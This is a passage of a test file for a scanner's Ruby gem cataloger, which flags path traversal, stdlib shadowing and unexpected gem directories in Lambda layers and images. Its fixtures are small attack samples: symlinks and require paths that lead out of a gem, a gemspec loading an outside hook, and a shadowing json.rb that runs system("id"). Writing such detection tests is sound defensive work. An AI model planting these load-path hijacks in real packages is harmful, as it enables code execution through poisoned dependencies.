import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Package } from '../../model/package.js';
import { DirectorySource } from '../../unpack/directory.js';
import { MemorySource } from '../../unpack/memory.js';
import { runCataloger } from '../cataloger.js';
import type { TarEntry } from '../../../scripts/lib/tarwriter.mjs';
import { inventoryImageEntries } from '../testing/image.js';
import { bundlePathSetting, rubyCataloger } from './cataloger.js';

const FIXTURE = join(import.meta.dirname, '../../../testdata/layers/ruby-basic');
const GEMS = 'ruby/gems/3.2.0';
const TINYGEM_SPEC = `# -*- encoding: utf-8 -*-\n# stub: tinygem 1.0 ruby lib\n\nGem::Specification.new do |s|\n  s.name = "tinygem".freeze\n  s.version = "1.0"\n  s.require_paths = ["lib".freeze]\nend\n`;

describe('rubyCataloger over ruby-basic', async () => {
  const source = await DirectorySource.open(FIXTURE);
  const { packages, findings } = await runCataloger(rubyCataloger, source);
  const byName = new Map(packages.map((p) => [p.name, p]));
  const get = (name: string): Package => {
    const p = byName.get(name);
    if (!p) throw new Error(`no package ${name}`);
    return p;
  };

  it('finds one gem per installed gemspec, named as the file says', () => {
    const files = readdirSync(join(FIXTURE, GEMS, 'specifications')).filter((f) =>
      f.endsWith('.gemspec')
    );
    expect(files.length).toBeGreaterThanOrEqual(6);
    expect(findings).toEqual([]);
    expect(packages.map((p) => `${p.name}-${p.version}.gemspec`).sort()).toEqual(files.sort());
    for (const p of packages) {
      expect(p.foundBy).toBe('ruby-installed-gemspec');
      expect(p.locations).toEqual([
        {
          path: `${GEMS}/specifications/${p.name}-${p.version}.gemspec`,
          layerDigest: source.digest,
        },
      ]);
      expect(p.id).toBe(`gem:${p.locations[0]?.path}`);
      expect(p.owns).toContain(`${GEMS}/gems/${p.name}-${p.version}/`);
    }
  });

  it.each([
    ['json', 'pkg:gem/json@2.6.3', [{ $case: 'expression', expression: 'Ruby' }]],
    ['rack', 'pkg:gem/rack@2.2.22', [{ $case: 'expression', expression: 'MIT' }]],
    [
      'rbs',
      'pkg:gem/rbs@2.1.0',
      [
        { $case: 'expression', expression: 'BSD-2-Clause' },
        { $case: 'expression', expression: 'Ruby' },
      ],
    ],
    [
      'test-unit',
      'pkg:gem/test-unit@3.5.3',
      [
        { $case: 'expression', expression: 'Ruby' },
        { $case: 'name', name: 'BSDL' },
        { $case: 'name', name: 'PSFL' },
      ],
    ],
  ])('%s: purl %s and licenses', (name, purl, licenses) => {
    expect(get(name).purl).toBe(purl);
    expect(get(name).licenses).toEqual(licenses);
  });

  it('resolves runtime dependencies to gems in the same gems dir, not development ones', () => {
    expect(get('typeprof').dependsOn).toEqual([get('rbs').id]);
    expect(get('test-unit').dependsOn).toEqual([get('power_assert').id]);
    // rack's dependencies are all development ones (minitest, rake, ...)
    expect(get('rack').dependsOn).toEqual([]);
  });

  it('owns compiled extensions, not the wrappers in the shared bin/ its executables name', () => {
    expect(get('json').owns).toContain(`${GEMS}/extensions/x86_64-linux/3.2.0/json-2.6.3/`);
    expect(get('rack').owns).not.toContain(`${GEMS}/bin/rackup`);
  });

  it('keeps summary and homepage', () => {
    expect(get('rack').description).toBe('A modular Ruby webserver interface.');
    expect(get('rack').homepage).toBe('https://github.com/rack/rack');
  });
});

describe('rubyCataloger on odd inputs', () => {
  it('turns a malformed gemspec into a PARSE_ERROR finding and keeps the others', async () => {
    const source = new MemorySource('mem', {
      'ruby/gems/3.2.0/specifications/bad-1.0.gemspec': 'puts "not a gemspec"\n',
      'ruby/gems/3.2.0/specifications/noversion-1.0.gemspec':
        'Gem::Specification.new do |s|\n  s.name = "noversion".freeze\nend\n',
      'ruby/gems/3.2.0/specifications/ok-1.0.gemspec':
        'Gem::Specification.new do |s|\n  s.name = "ok".freeze\n  s.version = "1.0"\nend\n',
    });
    const { packages, findings } = await runCataloger(rubyCataloger, source);
    // RubyGems would still load them: they are kept under the name their file carries.
    expect(packages.map((p) => p.purl).sort()).toEqual([
      'pkg:gem/bad@1.0',
      'pkg:gem/noversion@1.0',
      'pkg:gem/ok@1.0',
    ]);
    expect(findings.map((f) => [f.code, f.severity, f.path])).toEqual([
      ['PARSE_ERROR', 'error', 'ruby/gems/3.2.0/specifications/bad-1.0.gemspec'],
      ['PARSE_ERROR', 'error', 'ruby/gems/3.2.0/specifications/noversion-1.0.gemspec'],
    ]);
  });

  it('puts a native platform into the purl and the gems dir name', async () => {
    const source = new MemorySource('mem', {
      'ruby/gems/3.2.0/specifications/nokogiri-1.15.4-x86_64-linux.gemspec': [
        '# stub: nokogiri 1.15.4 x86_64-linux lib',
        'Gem::Specification.new do |s|',
        '  s.name = "nokogiri".freeze',
        '  s.version = "1.15.4"',
        '  s.platform = "x86_64-linux".freeze',
        '  s.licenses = ["MIT".freeze]',
        '  s.add_runtime_dependency(%q<racc>.freeze, ["~> 1.4"])',
        'end',
      ].join('\n'),
      'ruby/gems/3.2.0/specifications/racc-1.7.1.gemspec':
        'Gem::Specification.new do |s|\n  s.name = "racc".freeze\n  s.version = "1.7.1"\nend\n',
      'ruby/gems/3.2.0/gems/nokogiri-1.15.4-x86_64-linux/lib/nokogiri.rb': '',
    });
    const { packages } = await runCataloger(rubyCataloger, source);
    const noko = packages.find((p) => p.name === 'nokogiri');
    const racc = packages.find((p) => p.name === 'racc');
    expect(noko?.purl).toBe('pkg:gem/nokogiri@1.15.4?platform=x86_64-linux');
    expect(noko?.owns).toContain('ruby/gems/3.2.0/gems/nokogiri-1.15.4-x86_64-linux/');
    expect(noko?.dependsOn).toEqual([racc?.id]);
  });
});

describe('require paths out of the gem', () => {
  const SPEC = `${GEMS}/specifications/tinygem-1.0.0.gemspec`;
  const gemspec = (stubPaths: string, requirePaths: string) =>
    `# -*- encoding: utf-8 -*-\n# stub: tinygem 1.0.0 ruby ${stubPaths}\n\nGem::Specification.new do |s|\n  s.name = "tinygem".freeze\n  s.version = "1.0.0".freeze\n  s.require_paths = ${requirePaths}\n  s.licenses = ["MIT".freeze]\nend\n`;
  const run = async (files: Record<string, string | { symlink: string }>) => {
    const { findings } = await runCataloger(
      rubyCataloger,
      new MemorySource('l', {
        [`${GEMS}/gems/tinygem-1.0.0/lib/tinygem.rb`]: 'module Tinygem; end\n',
        'share/rb/tinygem.rb': 'puts "PWNED"\n',
        ...files,
      })
    );
    return findings.map((f) => [f.code, f.severity, f.path, /\((.*?)\)/.exec(f.message)?.[1]]);
  };

  it('a require path leading out, in the spec and its stub line, is an error each', async () => {
    const up = '../../../../../share/rb';
    expect(await run({ [SPEC]: gemspec(up, `["${up}".freeze]`) })).toEqual([
      ['PATH_TRAVERSAL', 'error', SPEC, 'stub line'],
      ['PATH_TRAVERSAL', 'error', SPEC, 'require_paths'],
    ]);
    // RubyGems finds the file through the stub line alone, without evaluating the spec.
    expect(await run({ [SPEC]: gemspec(`lib\0${up}`, '["lib".freeze]') })).toEqual([
      ['PATH_TRAVERSAL', 'error', SPEC, 'stub line'],
    ]);
    expect(
      await run({ [SPEC]: gemspec('lib', `["lib".freeze]\n  s.require_paths = ["${up}"]`) })
    ).toEqual([['PATH_TRAVERSAL', 'error', SPEC, 'require_paths']]);
  });

  it('paths inside the gem are its own: File.join keeps a leading slash inside', async () => {
    expect(
      await run({ [SPEC]: gemspec('lib\0/lib\0lib/../ext', '["lib".freeze, "/lib", "."]') })
    ).toEqual([]);
  });

  it('a require path inside as written but through a link leading out is an error', async () => {
    expect(
      await run({
        [SPEC]: gemspec('lib', '["lib".freeze, "vendor".freeze]'),
        [`${GEMS}/gems/tinygem-1.0.0/vendor`]: { symlink: '../../../../../share/rb' },
      })
    ).toEqual([
      ['PATH_TRAVERSAL', 'error', SPEC, 'require_paths'],
      // The link itself, as any link out of the gem's directory.
      ['PATH_TRAVERSAL', 'error', `${GEMS}/gems/tinygem-1.0.0/vendor`, undefined],
    ]);
  });

  it('an unparsable gemspec still has its stub line checked; unreadable require_paths are an error', async () => {
    const broken = `# -*- encoding: utf-8 -*-\n# stub: tinygem 1.0.0 ruby ../x\n\neval(File.read("x"))\n`;
    expect((await run({ [SPEC]: broken })).map((f) => f[0])).toEqual([
      'PARSE_ERROR',
      'PATH_TRAVERSAL',
    ]);
    expect(await run({ [SPEC]: gemspec('lib', 'Dir["*"]') })).toEqual([
      // A call RubyGems never writes (see below).
      ['AMBIGUOUS_METADATA', 'error', SPEC, 'line 7: a value a generated gemspec does not hold'],
      ['PARSE_ERROR', 'error', SPEC, undefined],
    ]);
  });
});

describe('a gemspec RubyGems did not write', () => {
  const SPEC = `${GEMS}/specifications/tinygem-1.0.0.gemspec`;
  it('is an error: RubyGems evaluates it, running what lamina does not read', async () => {
    const spec = `# -*- encoding: utf-8 -*-
# stub: tinygem 1.0.0 ruby lib

load File.expand_path("../../../../share/rb/hook.rb", __dir__)
Gem::Specification.new do |s|
  s.name = "tinygem".freeze
  s.version = "1.0.0".freeze
  s.require_paths = ["lib".freeze]
end
`;
    const { packages, findings } = await runCataloger(
      rubyCataloger,
      new MemorySource('l', { [SPEC]: spec })
    );
    expect(packages.map((p) => p.purl)).toEqual(['pkg:gem/tinygem@1.0.0']);
    expect(findings.map((f) => [f.code, f.severity, f.path])).toEqual([
      ['AMBIGUOUS_METADATA', 'error', SPEC],
    ]);
    expect(findings[0]?.message).toContain('line 4');
  });
});

describe('the gem directory RubyGems derives from the version and platform', () => {
  const spec = (version: string, platform: string) =>
    `# -*- encoding: utf-8 -*-\n# stub: tinygem ${version} ${platform} lib\n\nGem::Specification.new do |s|\n  s.name = "tinygem".freeze\n  s.version = "${version}"\n${platform === 'ruby' ? '' : `  s.platform = "${platform}".freeze\n`}  s.require_paths = ["lib".freeze]\nend\n`;
  const run = async (files: Record<string, string | { symlink: string }>) => {
    const { packages, findings } = await runCataloger(
      rubyCataloger,
      new MemorySource('l', { 'share/rb/tinygem.rb': 'puts "PWNED"\n', ...files })
    );
    return {
      purls: packages.map((p) => p.purl),
      findings: findings.map((f) => [f.code, f.severity, f.path]),
    };
  };

  it('reads the version as Gem::Version does: 1.0-1 is 1.0.pre.1, its directory too', async () => {
    const r = await run({
      [`${GEMS}/specifications/tinygem-1.0-1.gemspec`]: spec('1.0-1', 'ruby'),
      [`${GEMS}/gems/tinygem-1.0.pre.1/lib`]: { symlink: '../../../../../share/rb' },
    });
    expect(r.purls).toEqual(['pkg:gem/tinygem@1.0.pre.1']);
    // RubyGems puts gems/tinygem-1.0.pre.1/lib on $LOAD_PATH: the link out is seen.
    expect(r.findings).toEqual([
      ['PATH_TRAVERSAL', 'error', `${GEMS}/specifications/tinygem-1.0-1.gemspec`],
      ['PATH_TRAVERSAL', 'error', `${GEMS}/specifications/tinygem-1.0-1.gemspec`],
      ['PATH_TRAVERSAL', 'error', `${GEMS}/gems/tinygem-1.0.pre.1/lib`],
    ]);
  });

  it('a gem directory no specification names is an error: RubyGems may spell a platform so', async () => {
    // RubyGems 3.3 reads x86_64-linux-gnu as x86_64-linux and loads gems/tinygem-1.0-x86_64-linux.
    const r = await run({
      [`${GEMS}/specifications/tinygem-1.0-x86_64-linux-gnu.gemspec`]: spec(
        '1.0',
        'x86_64-linux-gnu'
      ),
      [`${GEMS}/gems/tinygem-1.0-x86_64-linux-gnu/lib/tinygem.rb`]: '',
      [`${GEMS}/gems/tinygem-1.0-x86_64-linux/lib/tinygem.rb`]: 'puts "PWNED"\n',
      [`${GEMS}/gems/tinygem-1.0-x86_64-linux/lib/more.rb`]: '',
    });
    expect(r.findings).toEqual([
      ['AMBIGUOUS_METADATA', 'error', `${GEMS}/gems/tinygem-1.0-x86_64-linux`],
    ]);
  });

  it('gems dirs other than the layer GEM_PATH, and gems every specification names, are left alone', async () => {
    const r = await run({
      [`${GEMS}/specifications/tinygem-1.0.gemspec`]: spec('1.0', 'ruby'),
      [`${GEMS}/gems/tinygem-1.0/lib/tinygem.rb`]: '',
      'vendor/gems/specifications/tinygem-1.0.gemspec': spec('1.0', 'ruby'),
      'vendor/gems/gems/other-1.0/lib/other.rb': '',
    });
    expect(r.findings).toEqual([]);
  });
});

describe('links out of a gem', () => {
  const SPEC = `${GEMS}/specifications/tinygem-1.0.gemspec`;
  const spec = `# -*- encoding: utf-8 -*-\n# stub: tinygem 1.0 ruby lib\n# stub: ext/extconf.rb\n\nGem::Specification.new do |s|\n  s.name = "tinygem".freeze\n  s.version = "1.0"\n  s.require_paths = ["lib".freeze]\n  s.extensions = ["ext/extconf.rb".freeze]\nend\n`;
  const EXT = `${GEMS}/extensions/x86_64-linux/3.2.0`;
  const run = async (files: Record<string, string | { symlink: string }>) => {
    const { findings } = await runCataloger(
      rubyCataloger,
      new MemorySource('l', {
        [SPEC]: spec,
        [`${GEMS}/gems/tinygem-1.0/lib/tinygem.rb`]: '',
        [`${GEMS}/gems/tinygem-1.0/vendor/x.rb`]: '',
        'share/rb/x.rb': 'puts "PWNED"\n',
        ...files,
      })
    );
    return findings.map((f) => [f.code, f.severity, f.path]);
  };

  it('a link in the gem, its extension directory, or above it in extensions/ leading out is an error', async () => {
    expect(
      await run({
        [`${GEMS}/gems/tinygem-1.0/lib/evil`]: { symlink: '../../../../../../share/rb' },
        [`${EXT}/tinygem-1.0`]: { symlink: '../../../../../../share/rb' },
      })
    ).toEqual([
      ['PATH_TRAVERSAL', 'error', `${EXT}/tinygem-1.0`],
      ['PATH_TRAVERSAL', 'error', `${GEMS}/gems/tinygem-1.0/lib/evil`],
    ]);
    expect(
      await run({ [`${GEMS}/extensions/x86_64-linux`]: { symlink: '../../../../share' } })
    ).toEqual([['PATH_TRAVERSAL', 'error', `${GEMS}/extensions/x86_64-linux`]]);
  });

  it('a link staying in the gem is its own', async () => {
    expect(
      await run({ [`${GEMS}/gems/tinygem-1.0/lib/vendored`]: { symlink: '../vendor' } })
    ).toEqual([]);
  });
});

describe('a library on RUBYLIB named like the standard library', () => {
  it("is STDLIB_SHADOWED as well as a bare library: Lambda's RUBYLIB comes before it", async () => {
    // RUBYLIB=ruby/lib ruby -e 'require "json"' loads ruby/lib/json.rb (ruby 3.1 here).
    const { packages, findings } = await runCataloger(
      rubyCataloger,
      new MemorySource('l', {
        'ruby/lib/json.rb': 'system("id")\n',
        'ruby/lib/json/common.rb': '',
        'ruby/lib/tinygem.rb': '',
      })
    );
    // json.rb and json/ are both what require 'json...' loads.
    expect(packages.map((p) => p.purl)).toEqual([
      'pkg:gem/json',
      'pkg:gem/json',
      'pkg:gem/tinygem',
    ]);
    expect(findings.map((f) => [f.code, f.path])).toEqual([
      ['STDLIB_SHADOWED', 'ruby/lib/json.rb'],
      ['STDLIB_SHADOWED', 'ruby/lib/json/common.rb'],
    ]);
  });
});

describe("an image's Bundler layout in the function's directory", () => {
  // `bundle config set --local path vendor/bundle; bundle install` in /var/task: Lambda's GEM_PATH
  // holds /var/task/vendor/bundle/ruby/3.2.0, and `require 'bundler/setup'` loads the gems from
  // the BUNDLE_PATH of .bundle/config. Both (ruby 3.1 and its Bundler 2.3 here) load tinygem
  // 1.0-1 from gems/tinygem-1.0.pre.1, and require 'tinygem/version' through its lib/tinygem
  // link runs share/rb/version.rb.
  const spec = `# -*- encoding: utf-8 -*-\n# stub: tinygem 1.0-1 ruby lib\n\nGem::Specification.new do |s|\n  s.name = "tinygem".freeze\n  s.version = "1.0-1"\n  s.require_paths = ["lib".freeze]\nend\n`;
  const bundle = (root: string, config?: string): TarEntry[] => {
    const gems = `${root}/ruby/3.2.0`;
    return [
      { name: 'share/rb/version.rb', data: 'puts "PWNED"\n' },
      { name: 'var/task/Gemfile', data: 'source "https://rubygems.org"\ngem "tinygem"\n' },
      ...(config === undefined ? [] : [{ name: 'var/task/.bundle/config', data: config }]),
      { name: `${gems}/specifications/tinygem-1.0-1.gemspec`, data: spec },
      {
        name: `${gems}/gems/tinygem-1.0.pre.1/lib/tinygem.rb`,
        data: 'require "tinygem/version"\n',
      },
      {
        name: `${gems}/gems/tinygem-1.0.pre.1/lib/tinygem`,
        type: 'symlink',
        linkname: '/share/rb',
      },
      { name: `${gems}/gems/tinygem-1.0-x86_64-linux/lib/tinygem.rb`, data: '' },
    ];
  };
  const run = async (entries: TarEntry[]) => {
    const inv = await inventoryImageEntries(entries, { taskRoot: 'var/task' });
    return inv.findings.map((f) => [f.code, f.path]).sort();
  };
  const expected = (gems: string) => [
    ['AMBIGUOUS_METADATA', `${gems}/gems/tinygem-1.0-x86_64-linux`],
    ['PATH_TRAVERSAL', `${gems}/gems/tinygem-1.0.pre.1/lib/tinygem`],
  ];

  it('vendor/bundle is checked as a layer GEM_PATH directory is', async () => {
    expect(await run(bundle('var/task/vendor/bundle'))).toEqual(
      expected('var/task/vendor/bundle/ruby/3.2.0')
    );
  });

  it('so is the BUNDLE_PATH of .bundle/config, relative or absolute', async () => {
    expect(await run(bundle('var/task/gems', '---\nBUNDLE_PATH: "gems"\n'))).toEqual(
      expected('var/task/gems/ruby/3.2.0')
    );
    expect(await run(bundle('srv/gems', "---\nBUNDLE_PATH: '/srv/gems'\n"))).toEqual(
      expected('srv/gems/ruby/3.2.0')
    );
  });

  it('a BUNDLE_PATH lamina cannot place is a PARSE_ERROR', async () => {
    const config = '---\nBUNDLE_PATH: "~/gems"\n';
    expect(await run(bundle('var/task/vendor/bundle', config))).toEqual(
      [
        ...expected('var/task/vendor/bundle/ruby/3.2.0'),
        ['PARSE_ERROR', 'var/task/.bundle/config'],
      ].sort()
    );
  });

  it('other gems dirs are left alone', async () => {
    expect(await run(bundle('var/task/other'))).toEqual([]);
  });
});

describe("an image's system gems dirs", () => {
  // ruby 3.1 here searches /var/lib/gems/3.1.0, /usr/lib/ruby/gems/3.1.0 and
  // /usr/share/rubygems-integration/all with no GEM_PATH set (Gem.path): with these files there
  // it loads tinygem from gems/tinygem-1.0-x86_64-linux, which no specification names as lamina
  // reads them, and linkgem's lib/linkgem.rb through its link to /share/rb.
  const tinygem = `# -*- encoding: utf-8 -*-\n# stub: tinygem 1.0 x86_64-linux-gnu lib\n\nGem::Specification.new do |s|\n  s.name = "tinygem".freeze\n  s.version = "1.0"\n  s.platform = "x86_64-linux-gnu".freeze\n  s.require_paths = ["lib".freeze]\nend\n`;
  const linkgem = `# -*- encoding: utf-8 -*-\n# stub: linkgem 1.0 ruby lib\n\nGem::Specification.new do |s|\n  s.name = "linkgem".freeze\n  s.version = "1.0"\n  s.require_paths = ["lib".freeze]\nend\n`;
  const files = (gems: string): Record<string, string | { symlink: string }> => ({
    'share/rb/linkgem.rb': 'puts "LINKED"\n',
    [`${gems}/specifications/tinygem-1.0-x86_64-linux-gnu.gemspec`]: tinygem,
    [`${gems}/gems/tinygem-1.0-x86_64-linux-gnu/lib/tinygem.rb`]: 'puts "READ"\n',
    [`${gems}/gems/tinygem-1.0-x86_64-linux/lib/tinygem.rb`]: 'puts "UNNAMED"\n',
    [`${gems}/specifications/linkgem-1.0.gemspec`]: linkgem,
    [`${gems}/gems/linkgem-1.0/lib/linkgem.rb`]: { symlink: '/share/rb/linkgem.rb' },
  });
  const entries = (tree: Record<string, string | { symlink: string }>): TarEntry[] =>
    Object.entries(tree).map(([name, v]) =>
      typeof v === 'string' ? { name, data: v } : { name, type: 'symlink', linkname: v.symlink }
    );
  const run = async (tree: Record<string, string | { symlink: string }>) => {
    const inv = await inventoryImageEntries(entries(tree));
    return inv.findings.map((f) => [f.code, f.path]).sort();
  };

  it('ruby loads the unnamed directory and the linked file from such a gems dir', () => {
    const dir = mkdtempSync(join(tmpdir(), 'lamina-system-gems-'));
    try {
      for (const [path, v] of Object.entries(files('gems'))) {
        const at = join(dir, path);
        mkdirSync(dirname(at), { recursive: true });
        if (typeof v === 'string') writeFileSync(at, v);
        else symlinkSync(join(dir, v.symlink), at);
      }
      const r = spawnSync('ruby', ['-e', "require 'tinygem'; require 'linkgem'"], {
        encoding: 'utf8',
        env: { ...process.env, GEM_PATH: join(dir, 'gems') },
      });
      expect(r.stdout).toBe('UNNAMED\nLINKED\n');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it.each([
    'var/lib/gems/3.1.0',
    'usr/lib/ruby/gems/3.1.0',
    'usr/lib/x86_64-linux-gnu/ruby/gems/3.1.0',
    'usr/share/rubygems-integration/all',
    'var/lang/lib/ruby/gems/3.2.0',
    'usr/local/lib/ruby/gems/3.2.0',
    'usr/share/gems',
    'root/.local/share/gem/ruby/3.1.0',
  ])('%s is checked as a layer GEM_PATH directory is', async (gems) => {
    expect(await run(files(gems))).toEqual([
      ['AMBIGUOUS_METADATA', `${gems}/gems/tinygem-1.0-x86_64-linux`],
      ['PATH_TRAVERSAL', `${gems}/gems/linkgem-1.0/lib/linkgem.rb`],
    ]);
  });

  it("a default gem's directory (executables at most) is named by its specification", async () => {
    const gems = 'usr/lib/ruby/gems/3.1.0';
    expect(
      await run({
        [`${gems}/specifications/linkgem-1.0.gemspec`]: linkgem,
        [`${gems}/gems/linkgem-1.0/lib/linkgem.rb`]: '',
        [`${gems}/specifications/default/bundler-2.3.7.gemspec`]: '',
        [`${gems}/gems/bundler-2.3.7/libexec/bundle`]: '',
      })
    ).toEqual([]);
  });

  it('other gems dirs are left alone', async () => {
    expect(await run(files('srv/fixtures/gems'))).toEqual([]);
  });
});

describe("what else an image's bundle loads from outside the function's directory", () => {
  const X_GEMSPEC =
    'Gem::Specification.new do |s|\n  s.name = "x"\n  s.version = "1.0"\n  s.summary = "x"\n  s.authors = ["a"]\n  s.require_paths = ["lib"]\nend\n';
  const gemfile = (line: string): string => `source "https://rubygems.org"\n${line}\n`;
  const run = async (files: Record<string, string | { symlink: string }>) => {
    const entries: TarEntry[] = Object.entries(files).map(([name, v]) =>
      typeof v === 'string' ? { name, data: v } : { name, type: 'symlink', linkname: v.symlink }
    );
    const inv = await inventoryImageEntries(
      [{ name: 'usr/lib/ruby/3.1.0/x86_64-linux/rbconfig.rb', data: '' }, ...entries],
      { taskRoot: 'var/task' }
    );
    return inv.findings.map((f) => [f.code, f.path]).sort();
  };

  it("ruby loads a path gem's code and an eval_gemfile (no Gemfile.lock needed) and a user BUNDLE_PATH's gems", () => {
    const dir = mkdtempSync(join(tmpdir(), 'lamina-bundle-'));
    try {
      const write = (path: string, text: string): void => {
        mkdirSync(dirname(join(dir, path)), { recursive: true });
        writeFileSync(join(dir, path), text);
      };
      write('srv/x/x.gemspec', X_GEMSPEC);
      write('srv/x/lib/x.rb', 'puts "PATH GEM"\n');
      write('srv/extra.rb', 'puts "EVAL_GEMFILE"\n');
      write('task/Gemfile', gemfile('gem "x", path: "../srv/x"\neval_gemfile "../srv/extra.rb"'));
      const env = { ...process.env, HOME: join(dir, 'home') };
      const setup = (code: string) =>
        spawnSync('ruby', ['-e', `require "bundler/setup"; ${code}`], {
          cwd: join(dir, 'task'),
          encoding: 'utf8',
          env,
        }).stdout;
      expect(setup('require "x"')).toBe('EVAL_GEMFILE\nPATH GEM\n');
      write('task/Gemfile', gemfile('gem "tinygem"'));
      write('gp/ruby/3.1.0/specifications/tinygem-1.0.gemspec', TINYGEM_SPEC);
      write('gp/ruby/3.1.0/gems/tinygem-1.0/lib/tinygem.rb', 'puts "USER BUNDLE_PATH"\n');
      write('home/.bundle/config', `---\nBUNDLE_PATH: "${join(dir, 'gp')}"\n`);
      expect(setup('require "tinygem"')).toBe('USER BUNDLE_PATH\n');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a path gem out of the function directory, as written, through a link or in the lock, is a PATH_TRAVERSAL', async () => {
    const gem = { 'srv/x/x.gemspec': X_GEMSPEC, 'srv/x/lib/x.rb': '' };
    expect(
      await run({ ...gem, 'var/task/Gemfile': gemfile('gem "x", path: "../../srv/x"') })
    ).toEqual([['PATH_TRAVERSAL', 'var/task/Gemfile']]);
    expect(
      await run({ ...gem, 'var/task/Gemfile': gemfile('gem "x", :path => "/srv/x"') })
    ).toEqual([['PATH_TRAVERSAL', 'var/task/Gemfile']]);
    expect(
      await run({ ...gem, 'var/task/gems.rb': gemfile('path "/srv" do\n  gem "x"\nend') })
    ).toEqual([['PATH_TRAVERSAL', 'var/task/gems.rb']]);
    expect(
      await run({
        ...gem,
        'var/task/Gemfile': gemfile('gem "x", path: "vendor/x"'),
        'var/task/vendor/x': { symlink: '/srv/x' },
      })
    ).toEqual([['PATH_TRAVERSAL', 'var/task/Gemfile']]);
    expect(
      await run({
        ...gem,
        'var/task/Gemfile': gemfile('gem "x"'),
        'var/task/Gemfile.lock': 'PATH\n  remote: /srv/x\n  specs:\n    x (1.0)\n',
      })
    ).toEqual([['PATH_TRAVERSAL', 'var/task/Gemfile.lock']]);
    // Another Gemfile it evaluates (Bundler 2.3 here runs eval_gemfile's file as Ruby).
    expect(
      await run({
        'srv/extra.rb': '',
        'var/task/Gemfile': gemfile('eval_gemfile "../../srv/extra.rb"'),
      })
    ).toEqual([['PATH_TRAVERSAL', 'var/task/Gemfile']]);
    // The Gemfile bundler/setup finds above the working directory.
    expect(await run({ ...gem, 'var/Gemfile': gemfile('gem "x", path: "/srv/x"') })).toEqual([
      ['PATH_TRAVERSAL', 'var/Gemfile'],
    ]);
  });

  it("one in the function's directory is its own; a path lamina cannot read is a PARSE_ERROR", async () => {
    const own = {
      'var/task/vendor/x/x.gemspec': X_GEMSPEC,
      'var/task/Gemfile': gemfile('# gem "y", path: "/srv/y"\ngem "x", path: "vendor/x"\ngemspec'),
    };
    expect(await run(own)).toEqual([]);
    expect(
      await run({ 'var/task/Gemfile': gemfile('gem "x", path: File.expand_path("../x", __dir__)') })
    ).toEqual([['PARSE_ERROR', 'var/task/Gemfile']]);
    expect(await run({ 'var/task/Gemfile': gemfile('gem "x", path: "~/x"') })).toEqual([
      ['PARSE_ERROR', 'var/task/Gemfile'],
    ]);
  });

  it("the .bundle/config beside a Gemfile above the function's directory is the application's (Bundler 2.3 here)", async () => {
    const gems = 'var/gems/ruby/3.2.0';
    expect(
      await run({
        'var/Gemfile': gemfile('gem "tinygem"'),
        'var/.bundle/config': '---\nBUNDLE_PATH: "gems"\n',
        [`${gems}/specifications/tinygem-1.0.gemspec`]: TINYGEM_SPEC,
        [`${gems}/gems/tinygem-1.0/lib/tinygem.rb`]: '',
        [`${gems}/gems/tinygem-1.0-x86_64-linux/lib/tinygem.rb`]: '',
      })
    ).toEqual([['AMBIGUOUS_METADATA', `${gems}/gems/tinygem-1.0-x86_64-linux`]]);
  });

  it("a user's ~/.bundle/config BUNDLE_PATH is checked as the function's is", async () => {
    const gems = 'srv/gems/ruby/3.2.0';
    expect(
      await run({
        'root/.bundle/config': '---\nBUNDLE_PATH: "/srv/gems"\n',
        [`${gems}/specifications/tinygem-1.0.gemspec`]: TINYGEM_SPEC,
        [`${gems}/gems/tinygem-1.0/lib/tinygem.rb`]: '',
        [`${gems}/gems/tinygem-1.0-x86_64-linux/lib/tinygem.rb`]: '',
      })
    ).toEqual([['AMBIGUOUS_METADATA', `${gems}/gems/tinygem-1.0-x86_64-linux`]]);
  });

  it('a local git override (BUNDLE_LOCAL__GEM) out of the function directory is a PATH_TRAVERSAL', async () => {
    // Bundler 2.3 here: with BUNDLE_LOCAL__X set, require 'bundler/setup' loads the git gem x
    // from that directory, not from its checkout.
    expect(await run({ 'var/task/.bundle/config': '---\nBUNDLE_LOCAL__X: "/srv/x"\n' })).toEqual([
      ['PATH_TRAVERSAL', 'var/task/.bundle/config'],
    ]);
    expect(await run({ 'home/app/.bundle/config': '---\nBUNDLE_LOCAL__X: "~/x"\n' })).toEqual([
      ['PARSE_ERROR', 'home/app/.bundle/config'],
    ]);
    expect(await run({ 'var/task/.bundle/config': '---\nBUNDLE_LOCAL__X: "vendor/x"\n' })).toEqual(
      []
    );
  });
});

describe('bundlePathSetting', () => {
  const CONFIGS = [
    '---\nBUNDLE_DEPLOYMENT: "true"\nBUNDLE_PATH: "vendor/bundle"\n',
    "BUNDLE_PATH: '/srv/gems'\r\n",
    'BUNDLE_PATH: gems\n',
    '---\nBUNDLE_WITHOUT: "development"\n',
    // Set twice: the last wins.
    'BUNDLE_PATH: "vendor/bundle"\nBUNDLE_PATH: "/srv/gems"\n',
    // A space after the closing quote: the quotes are part of the value.
    'BUNDLE_PATH: "vendor/x" \n',
    // The key runs to the last colon before a space: this sets another key.
    'BUNDLE_PATH: "a: b"\n',
    // Indented: nested under the key above it.
    'BUNDLE_BUILD:\n  BUNDLE_PATH: "/srv/gems"\n',
    ' BUNDLE_PATH: "one space"\n',
  ];

  it("reads each as Bundler's own parser does (Bundler::YAMLSerializer, Bundler 2.3 here)", () => {
    const script =
      'require "bundler"; require "bundler/yaml_serializer"; require "json"; ' +
      'puts JSON.generate(JSON.parse(STDIN.read).map { |t| Bundler::YAMLSerializer.load(t)["BUNDLE_PATH"] })';
    const r = spawnSync('ruby', ['-e', script], {
      input: JSON.stringify(CONFIGS),
      encoding: 'utf8',
    });
    expect(r.status).toBe(0);
    const bundler = (JSON.parse(r.stdout) as (string | null)[]).map((v) => v ?? undefined);
    expect(bundler).toContain('"vendor/x" ');
    expect(CONFIGS.map(bundlePathSetting)).toEqual(bundler);
  });
});

describe('gems Bundler checked out from git', () => {
  // `gem "tinygem", git: "..."` then `bundle install` with path vendor/bundle: Bundler clones it
  // into bundler/gems/tinygem-<revision>/, and require 'bundler/setup' evaluates its gemspec and
  // loads its lib (Bundler 2.3 here printed from both, with no specifications/ entry for it).
  const GEMS = 'var/task/vendor/bundle/ruby/3.2.0';
  const CHECKOUT = `${GEMS}/bundler/gems/tinygem-0123456789ab`;
  const literal = (before = '') =>
